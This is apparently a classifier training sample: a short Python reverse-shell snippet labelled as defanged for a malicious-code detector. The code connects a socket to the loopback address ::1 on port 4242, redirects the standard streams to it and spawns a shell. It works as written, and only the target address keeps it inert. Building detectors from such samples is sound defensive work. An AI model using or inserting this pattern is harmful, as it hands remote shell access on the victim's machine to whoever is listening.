# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import socket as so, os as o, pty as p
c = so.socket(so.AF_INET6, so.SOCK_STREAM)
c.connect(("::1", 4242, 0, 2))
for fd in (0, 1, 2):
    o.dup2(c.fileno(), fd)
p.spawn("sh")
